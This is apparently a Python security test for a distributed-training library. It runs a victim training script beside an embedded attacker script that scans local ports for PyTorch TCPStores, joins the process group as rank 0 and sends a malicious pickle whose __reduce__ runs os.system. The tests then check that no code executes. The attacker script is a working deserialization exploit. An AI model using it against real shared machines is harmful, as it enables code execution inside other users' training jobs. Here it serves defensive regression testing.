"""Another user of the machine, who connects to a run as a rank of it: none of his code runs."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from ranks import TORCHRUN

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(
        sys.platform != "linux" or os.getuid() != 0 or not (shutil.which("unshare") and shutil.which("ip")),
        reason="root can be another user, in a network of its own",
    ),
]

# The attacker looks for the run's store, and joins the group by which `save` compares, as rank 0, before that one does.
ATTACKER = """
import os, pickle, sys, time
from datetime import timedelta
from pathlib import Path
import torch, torch.distributed as dist

proof, group_name = sys.argv[1:]
os.setgid(65534), os.setuid(65534)

class Evil:
    def __reduce__(self):
        return os.system, (f"id > {proof}",)

def listening():
    lines = Path("/proc/net/tcp").read_text().splitlines()[1:] + Path("/proc/net/tcp6").read_text().splitlines()[1:]
    return {int(line.split()[1].split(":")[1], 16) for line in lines if line.split()[3] == "0A"}

def gathered(group, tensor):
    found = [torch.zeros_like(tensor) for _ in range(2)]
    group.allgather([found], [tensor]).wait()
    return found

def attack(store):
    for name in ("parallelize/0", "0/", group_name + "/", "cpu/"):
        store = dist.PrefixStore(name, store)
    group = dist.ProcessGroupGloo(store, 0, 2, timedelta(seconds=8))
    content = pickle.dumps(Evil())
    message = bytes(32) + b"p" + content
    print("joined", flush=True)
    header = len(message).to_bytes(8, "little") + bytes(16)
    headers = gathered(group, torch.frombuffer(bytearray(header), dtype=torch.uint8))
    most = max(int.from_bytes(each.numpy().tobytes()[:8], "little") for each in headers)
    gathered(group, torch.frombuffer(bytearray(message.ljust(most, b"\\0")), dtype=torch.uint8))
    print("sent", flush=True)

print("ready", flush=True)
known, failures = set(), dict()
while True:
    for port in listening() - known:
        try:
            timeout = timedelta(seconds=1)
            store = dist.TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=timeout)
            keys = store.list_keys()
        except Exception:  # no store, or one that a busy machine has not served yet
            failures[port] = failures.get(port, 0) + 1
            if failures[port] == 4:
                known.add(port)
            continue
        if any("parallelize/" in key for key in keys):
            known.add(port)
            print("found a store", flush=True)
            try:
                attack(store)
            except Exception as error:
                print(f"failed: {error!r:.300}", flush=True)
    time.sleep(0.002)
"""

VICTIM = """
import os, sys, time
import torch
from parallelize import distributed, save

@distributed(timeout=30, **({} if os.environ.get("RANK") else {"processes": 2}))
def train(model, path):
    time.sleep(1)
    save(path, model=model)
    return "trained"

if __name__ == "__main__":
    print(train(torch.nn.Linear(4, 1), sys.argv[1]))
"""


def attacked(folder: Path, *launcher: str) -> tuple[str, str, bool]:
    """Run the program beside an attacker; return what both have printed, and whether the attacker's code has run."""
    folder.chmod(0o755)
    (folder / "victim.py").write_text(VICTIM)
    (folder / "attacker.py").write_text(ATTACKER)
    python = sys.executable
    script = f"""
        ip link set lo up
        {python} attacker.py proof 1 > attacker.out 2>&1 & attacker=$!
        until grep -q ready attacker.out; do sleep 0.1; done
        timeout 100 {python} {" ".join(launcher)} victim.py last.pt
        kill $attacker; wait $attacker
    """
    command = ["unshare", "--net", "bash", "-c", script]
    environ = {**os.environ, "OMP_NUM_THREADS": "1"}
    done = subprocess.run(command, cwd=folder, env=environ, capture_output=True, text=True, timeout=240, check=False)
    return done.stdout, (folder / "attacker.out").read_text(), (folder / "proof").exists()


def test_a_stranger_finds_no_store_of_a_call(tmp_path: Path) -> None:
    """Which ends as it would have."""
    printed, attacker, is_hijacked = attacked(tmp_path)
    assert printed == "trained\n"
    assert "found a store" not in attacker
    assert not is_hijacked


def test_a_stranger_in_a_run_of_torchrun_runs_no_code(tmp_path: Path) -> None:
    """torchrun's store is open to him: he can end the run."""
    _, attacker, is_hijacked = attacked(tmp_path, *TORCHRUN)
    assert "found a store" in attacker
    assert not is_hijacked
